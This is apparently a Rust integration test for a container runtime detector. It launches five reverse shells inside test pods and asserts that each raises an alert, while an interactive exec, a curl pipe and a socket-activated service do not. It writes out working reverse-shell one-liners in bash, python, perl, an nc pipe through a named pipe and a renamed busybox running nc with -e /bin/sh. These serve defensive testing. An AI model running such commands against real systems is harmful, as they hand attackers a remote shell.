//! Five reverse shells alert, three look-alikes do not.
use crate::rig::Rig;
use crate::up::Up;
use crate::{begin, timed};
use anyhow::{Context, Result};
use serde_json::Value;
use std::io::Read;
use std::net::{TcpListener, TcpStream};
use std::sync::Mutex;
use std::time::{Duration, Instant};

/// Where the host is for pods of the rig.
const HOST: &str = "198.18.0.1";

/// Accepts connections and keeps them open: a reverse shell that is hung up on ends before it is one.
fn listener() -> Result<u16> {
    static HELD: Mutex<Vec<TcpStream>> = Mutex::new(Vec::new());
    let listener = TcpListener::bind((HOST, 0))?;
    let port = listener.local_addr()?.port();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            HELD.lock().expect("no holder panics").push(stream);
        }
    });
    Ok(port)
}

/// Every case is a command in a pod of its own, so that each alert names its own pod.
fn shells(port: u16) -> Vec<(&'static str, String)> {
    vec![
        ("bash", format!("bash -c 'bash -i >& /dev/tcp/{HOST}/{port} 0>&1'")),
        (
            "python",
            format!(
                "python3 -c 'import socket,os,pty; s=socket.socket(); s.connect((\"{HOST}\",{port})); \
                 [os.dup2(s.fileno(),f) for f in (0,1,2)]; pty.spawn(\"/bin/sh\")'"
            ),
        ),
        (
            "perl",
            format!(
                "perl -e 'use Socket; socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\")||6); \
                 connect(S,sockaddr_in({port},inet_aton(\"{HOST}\"))) or die; \
                 open(STDIN,\">&S\"); open(STDOUT,\">&S\"); open(STDERR,\">&S\"); exec(\"/bin/sh -i\");'"
            ),
        ),
        (
            "fifo",
            format!(
                "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc {HOST} {port} > /tmp/f"
            ),
        ),
        // A static binary under another name; busybox finds its applet by argv[0].
        (
            "renamed",
            format!(
                "cp /usr/bin/busybox-static /opt/updater && \
                 bash -c 'exec -a busybox /opt/updater nc {HOST} {port} -e /bin/sh'"
            ),
        ),
    ]
}

#[tokio::test(flavor = "multi_thread")]
async fn reverse_shells_alert_and_look_alikes_do_not() -> Result<()> {
    let Some(_turn) = begin("reverse shells alert and look-alikes do not") else { return Ok(()) };
    let rig = Rig::up()?;
    let port = listener()?;
    let dir = tempfile::tempdir()?;
    let kubeconfig = rig.kubeconfig().display().to_string();
    let containerd = rig.containerd().display().to_string();
    let up = Up::start(dir.path(), &["--kubeconfig", &kubeconfig, "--containerd", &containerd])?;
    let api = up.owner().await?;

    let mut children = Vec::new();
    for (name, command) in shells(port) {
        rig.pod(name, "seawall.test/debian:1")?;
        let filter = format!("pod:{name}");
        let began = Instant::now();
        children.push(rig.exec(name, &["sh", "-c", &command])?);
        let (_, alerts) = api
            .wait_for("alerts", &filter, Duration::from_secs(10), |items| {
                items.iter().any(|alert| alert["detection"] == "SW-D-0001")
            })
            .await
            .with_context(|| format!("reverse shell by {name}"))?;
        let took = began.elapsed();
        timed(&format!("{name}: alert after kubectl exec began"), took, Duration::from_secs(2));
        let alert =
            alerts.iter().find(|alert| alert["detection"] == "SW-D-0001").context("found above")?;
        complete(name, alert);
    }
    for child in &mut children {
        drop(child.kill());
        drop(child.wait());
    }

    look_alikes(&rig)?;
    tokio::time::sleep(Duration::from_secs(4)).await;
    for name in ["exec-shell", "curl-cat", "activated"] {
        let alerts = api.list("alerts", &format!("pod:{name} detection:SW-D-0001")).await?;
        assert!(alerts.is_empty(), "{name}: {alerts:#?}");
    }
    Ok(())
}

/// Namespace, workload, pod, container, image digest and ancestry are there.
#[track_caller]
fn complete(name: &str, alert: &Value) {
    let place = &alert["where"];
    assert_eq!(place["namespace"], "default", "{name}: {place:#}");
    assert_eq!(place["pod"], name, "{place:#}");
    assert_eq!(place["workload"], format!("Pod/{name}"), "{place:#}");
    assert_eq!(place["container"], "main", "{place:#}");
    assert_eq!(place["identity"], "complete", "{place:#}");
    let digest = place["image"]["digest"].as_str().or(place["image"]["config_digest"].as_str());
    assert!(digest.is_some_and(|digest| digest.starts_with("sha256:")), "{place:#}");
    let process = alert["process"].as_array().expect("an alert has processes");
    assert!(process.len() >= 2, "{name}: no ancestry: {process:#?}");
    assert!(!alert["why"].as_array().expect("an alert says why").is_empty(), "{name}");
}

/// An interactive shell by kubectl, a download into a pipe, a service that a socket activates.
fn look_alikes(rig: &Rig) -> Result<()> {
    let web = TcpListener::bind((HOST, 0))?;
    let port = web.local_addr()?.port();
    std::thread::spawn(move || {
        for mut stream in web.incoming().flatten() {
            let mut request = [0; 512];
            drop(stream.read(&mut request));
            drop(std::io::Write::write_all(
                &mut stream,
                b"HTTP/1.0 200 OK\r\ncontent-length: 3\r\n\r\nhi\n",
            ));
        }
    });
    for name in ["exec-shell", "curl-cat", "activated"] {
        rig.pod(name, "seawall.test/debian:1")?;
    }
    rig.kubectl(&[
        "exec",
        "exec-shell",
        "--",
        "bash",
        "-ic",
        "id; ls /; cat /etc/hostname | sort",
    ])?;
    rig.kubectl(&[
        "exec",
        "curl-cat",
        "--",
        "sh",
        "-c",
        &format!("curl -s http://{HOST}:{port}/ | cat"),
    ])?;
    // inetd's way: the service's standard streams are a connection that was accepted.
    let mut server = rig.exec(
        "activated",
        &[
            "sh",
            "-c",
            "/usr/bin/busybox-static nc -ll -p 7070 -e /bin/sh -c 'read line; echo got $line'",
        ],
    )?;
    std::thread::sleep(Duration::from_secs(1));
    let address = rig.kubectl(&["get", "pod", "activated", "-o", "jsonpath={.status.podIP}"])?;
    let mut client = TcpStream::connect((address.trim(), 7070))?;
    std::io::Write::write_all(&mut client, b"hello\n")?;
    client.set_read_timeout(Some(Duration::from_secs(3)))?;
    let mut answer = String::new();
    drop(client.read_to_string(&mut answer));
    assert!(answer.contains("got hello"), "the activated service answered {answer:?}");
    drop(server.kill());
    drop(server.wait());
    Ok(())
}
